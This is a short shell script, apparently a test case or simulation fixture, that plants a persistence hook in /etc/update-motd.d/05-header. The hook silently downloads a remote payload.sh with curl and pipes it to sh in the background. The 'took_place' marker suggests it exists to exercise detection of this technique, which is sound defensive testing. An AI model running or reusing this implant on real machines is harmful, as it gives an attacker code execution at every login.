#!/bin/sh
. /opt/case/case.sh

mkdir -p /etc/update-motd.d
printf '#!/bin/sh\n(curl -s http://203.0.113.10/payload.sh | sh) >/dev/null 2>&1 &\n' >/etc/update-motd.d/05-header
chmod 755 /etc/update-motd.d/05-header
took_place
